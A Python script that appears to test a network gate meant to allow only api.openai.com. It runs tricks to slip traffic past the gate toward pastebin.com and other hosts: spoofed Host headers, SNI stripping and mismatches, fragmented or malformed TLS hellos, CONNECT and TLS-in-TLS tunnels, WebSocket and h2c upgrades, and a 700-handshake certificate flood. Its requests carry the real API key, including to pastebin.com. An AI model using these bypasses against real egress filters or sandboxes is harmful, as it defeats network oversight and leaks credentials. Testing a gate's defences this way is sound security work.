"""Plays one trick on the gate and prints what it met, a line of JSON each.

guards.py TRICK: host, hello, tunnel, address NAME..., port or flood.
"""
import json
import os
import socket
import ssl
import struct
import sys

KEY = os.environ.get("OPENAI_API_KEY", "")
API = "api.openai.com"
BODY = json.dumps({"model": "gpt-5-mini", "max_completion_tokens": 20,
                   "messages": [{"role": "user", "content": "say:guarded"}]})
CONTEXT = ssl.create_default_context()


def tell(name, met):
    print(json.dumps({"trick": name, "met": met}), flush=True)


def request(host, method="POST", path="/v1/chat/completions", more=""):
    head = f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {KEY}\r\nContent-Type: application/json\r\n{more}"
    body = BODY if method == "POST" else ""
    return (head + f"Content-Length: {len(body)}\r\n\r\n" + body).encode("utf-8", "surrogateescape")


def read(stream):
    """What comes until it ends or nothing comes any more."""
    stream.settimeout(3)
    got = b""
    try:
        while piece := stream.recv(65536):
            got += piece
    except TimeoutError:
        pass
    except OSError as error:
        got += f" <{type(error).__name__}>".encode()
    return got.decode("utf-8", "replace") or "closed"


def tls(to=(API, 443), name=API, context=CONTEXT):
    tcp = socket.create_connection(to, timeout=15)
    return context.wrap_socket(tcp, server_hostname=name)


def asked(name, *requests, to=(API, 443), sni=API):
    """Sends each request when the one before it was answered."""
    try:
        with tls(to, sni) as stream:
            answers = []
            for one in requests:
                stream.sendall(one)
                answers.append(read(stream))
            tell(name, " | ".join(answers))
    except OSError as error:
        tell(name, f"{type(error).__name__}: {error}")


def host():
    asked("itself", request(API))
    asked("upper_dot_port", request("API.OpenAI.com.:443"))
    asked("another", request("pastebin.com"))
    asked("another_later", request(API), request("pastebin.com"))
    asked("another_port", request(f"{API}:8443"))
    asked("no_port_number", request(f"{API}:x"))
    asked("userinfo", request(f"{API}@pastebin.com"))
    asked("unicode", request("ap\u0131.openai.com"))
    asked("fullwidth_dot", request("api\uff0eopenai\uff0ecom"))
    asked("punycode", request("xn--ap-nqa.openai.com"))
    asked("percent", request("api%2eopenai%2ecom"))
    asked("absolute_elsewhere", request(API, path="https://pastebin.com/v1/chat/completions"))
    asked("name_of_another_address", request("pastebin.com"), sni="pastebin.com")
    loose = ssl.create_default_context()
    loose.check_hostname = False
    try:
        with tls(name=None, context=loose) as stream:
            stream.sendall(request(API))
            answer = read(stream)
            stream.sendall(request("pastebin.com"))
            tell("no_sni", answer + " | " + read(stream))
    except OSError as error:
        tell("no_sni", f"{type(error).__name__}: {error}")
    try:
        with tls(("203.0.113.7", 443), None, loose):
            tell("no_sni_no_name", "a handshake")
    except OSError as error:
        tell("no_sni_no_name", f"{type(error).__name__}: {error}")


def first_flight(name):
    """A client with its hello in hand."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = CONTEXT.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return client, incoming, outgoing, outgoing.read()


def finish(client, incoming, outgoing, tcp):
    """The rest of a handshake, and one request."""
    while True:
        try:
            client.do_handshake()
            break
        except ssl.SSLWantReadError:
            tcp.sendall(outgoing.read())
            piece = tcp.recv(65536)
            if not piece:
                return "closed"
            incoming.write(piece)
    client.write(request(API, more="Connection: close\r\n"))
    tcp.sendall(outgoing.read())
    got = b""
    while True:
        try:
            piece = client.read(65536)
            if not piece:
                break
            got += piece
        except ssl.SSLWantReadError:
            piece = tcp.recv(65536)
            if not piece:
                break
            incoming.write(piece)
        except ssl.SSLError:
            break
    return got.decode("utf-8", "replace")


def extended(hello, kind, data):
    """The hello with one more extension."""
    record, body = hello[:5], hello[5:]
    at = 4 + 2 + 32
    at += 1 + body[at]
    at += 2 + struct.unpack(">H", body[at:at + 2])[0]
    at += 1 + body[at]
    length = struct.unpack(">H", body[at:at + 2])[0]
    more = struct.pack(">HH", kind, len(data)) + data
    extensions = struct.pack(">H", length + len(more)) + body[at + 2:] + more
    body = body[:at] + extensions
    body = body[:1] + struct.pack(">I", len(body) - 4)[1:] + body[4:]
    return record[:3] + struct.pack(">H", len(body)) + body


def records(hello, size):
    body = hello[5:]
    pieces = (body[at:at + size] for at in range(0, len(body), size))
    return b"".join(hello[:3] + struct.pack(">H", len(piece)) + piece for piece in pieces)


def handshake(name, change, step=None):
    client, incoming, outgoing, hello = first_flight(API)
    with socket.create_connection((API, 443), timeout=15) as tcp:
        tcp.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        hello = change(hello)
        for at in range(0, len(hello), step or len(hello)):
            tcp.sendall(hello[at:at + (step or len(hello))])
        tell(name, finish(client, incoming, outgoing, tcp))


def raw(name, data, to=(API, 443)):
    try:
        with socket.create_connection(to, timeout=15) as tcp:
            tcp.sendall(data)
            tcp.settimeout(15)
            got = tcp.recv(4096)
            tell(name, "closed" if not got else got[:16].hex())
    except OSError as error:
        tell(name, f"{type(error).__name__}")


def hello():
    handshake("whole", lambda hello: hello)
    handshake("byte_by_byte", lambda hello: hello, 1)
    handshake("records_of_one_byte", lambda hello: records(hello, 1))
    handshake("records_of_seven_in_pieces_of_three", lambda hello: records(hello, 7), 3)
    unknown = first_flight("public.ech.example")[3]
    raw("unknown_name", unknown)
    raw("ech_with_unknown_outer_name", extended(unknown, 0xFE0D, b"\0" + b"\0\1\0\1" + b"\7" + b"\0\x20" + b"k" * 32 + b"\0\x40" + b"p" * 64))
    literal = first_flight("sni.patch.me")[3].replace(b"sni.patch.me", b"203.0.113.77")
    raw("literal_for_a_bare_address", literal, ("203.0.113.77", 443))
    raw("null_in_the_name", first_flight("sni.patch.me")[3].replace(b"sni.patch.me", b"api\0openai.c"))
    raw("sslv2", bytes.fromhex("802e0100020015000000100100800300800700c0060040020080040080") + b"c" * 19)
    raw("empty_records", b"\x16\x03\x01\0\0" * 4000)
    raw("endless", b"\x16\x03\x01\x3f\xff\x01\0\xea\x60" + b"\0" * 65536)


def tunnel():
    asked("connect", request("pastebin.com:443", "CONNECT", "pastebin.com:443"))
    asked("trace", request(API, "TRACE", "/v1/models"))
    inner = first_flight("pastebin.com")[3]
    asked("tls_in_tls", inner)
    socket_key = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    for name, to in (("websocket", API), ("websocket_elsewhere", "pastebin.com")):
        asked(name, request(to, "GET", "/v1/realtime?model=gpt-5-mini", socket_key), inner, to=(to, 443), sni=to)
    h2c = "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"
    asked("h2c", request("pastebin.com", "GET", "/h2c", h2c), to=("pastebin.com", 443), sni="pastebin.com")
    raw("h2_in_clear", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0", ("pastebin.com", 80))


def given(name):
    """The address that the responder gives for a name: no file of hosts is asked."""
    if not name.endswith(".example"):
        return name.strip("[]")
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(15)
        udp.connect(("192.0.2.53", 53))
        udp.send(b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1")
        return socket.inet_ntoa(udp.recv(512)[-4:])


def address():
    for name in sys.argv[2:]:
        try:
            with socket.create_connection((given(name), 80), timeout=15) as tcp:
                tcp.sendall(f"GET /latest HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())
                tell(name, read(tcp))
        except OSError as error:
            tell(name, f"{type(error).__name__}")


def port():
    asked("own_port", request(API))
    asked("another_port", request(f"{API}:8443"), to=(API, 8443))


def flood():
    """Asks for a certificate of one invented name after the other, and then for one that was made before."""
    asked("before", request(API))
    met = {}
    for number in range(700):
        with socket.create_connection(("192.0.2.43", 443), timeout=15) as tcp:
            tcp.sendall(first_flight(f"n{number}.invented.example")[3])
            got = tcp.recv(7).hex()
        kind = "certificate" if got.startswith("16") else got
        met[kind] = met.get(kind, 0) + 1
    tell("invented", json.dumps(met))
    asked("after", request(API))


globals()[sys.argv[1]]()
